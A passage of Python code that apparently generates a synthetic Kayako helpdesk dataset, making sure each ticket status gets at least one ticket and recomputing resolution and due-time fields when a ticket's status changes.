            html_customer=1 if rand() < 0.15 else 0,
            hostile=hostile,
            variant=variant,
        )
        desk.post_ids.reserve(tid, n_posts)
        desk.note_ids.reserve(tid, n_notes)
        desk.timetrack_ids.reserve(tid, n_timetracks)
        desk.attachment_ids.reserve(tid, n_attachments)
        desk.tickets[tid] = ticket
        desk._by_mask[ticket.displayid] = tid
    desk.next_ticket_id = count + 1
    _ensure_every_status(desk)


def _ensure_every_status(desk: KayakoDesk) -> None:
    """Give each status at least one ticket (small desks may not draw them all).

    A donor ticket comes from a status that has tickets to spare, in the status's
    department (or one its topic may move to); its resolution fields follow the change.
    """
    counts: dict[int, int] = {}
    for ticket in desk.tickets.values():
        counts[ticket.statusid] = counts.get(ticket.statusid, 0) + 1
    for status in desk.statuses.values():
        if counts.get(status.id) or status.id == S_NEW:
            continue

        def fits(ticket: Ticket, status: TicketStatus = status) -> bool:
            if ticket.hostile >= 0 or ticket.statusid == S_NEW or counts[ticket.statusid] < 2:
                return False
            return not status.departmentid or status.departmentid in (
                ticket.departmentid,
                *TOPICS[ticket.topic].departments,
            )

        candidates = [t for t in desk.tickets.values() if fits(t)]
        if not candidates:
            continue
        donor = min(
            candidates,
            key=lambda t: (
                t.departmentid != (status.departmentid or t.departmentid),
                desk.statuses[t.statusid].markasresolved != status.markasresolved,
                t.id,
            ),
        )
        counts[donor.statusid] -= 1
        counts[status.id] = 1
        if status.departmentid:
            donor.departmentid = status.departmentid
        _restatus(desk, donor, status)


def _restatus(desk: KayakoDesk, ticket: Ticket, status: TicketStatus) -> None:
    ticket.statusid = status.id
    if status.markasresolved:
        ticket.isresolved, ticket.resolutiondateline = 1, ticket.lastactivity
        ticket.duetime = ticket.resolutiondue = 0
        return
    last_is_staff = (ticket.n_posts - 1 + ticket.first_by_staff) % 2 == 1 and ticket.n_posts > 1
    ticket.isresolved = ticket.resolutiondateline = 0
    ticket.duetime = (
        0 if last_is_staff else ticket.lastactivity + REPLY_HOURS[ticket.priorityid] * HOUR
    )
    ticket.resolutiondue = ticket.creationtime + RESOLVE_HOURS[ticket.priorityid] * HOUR
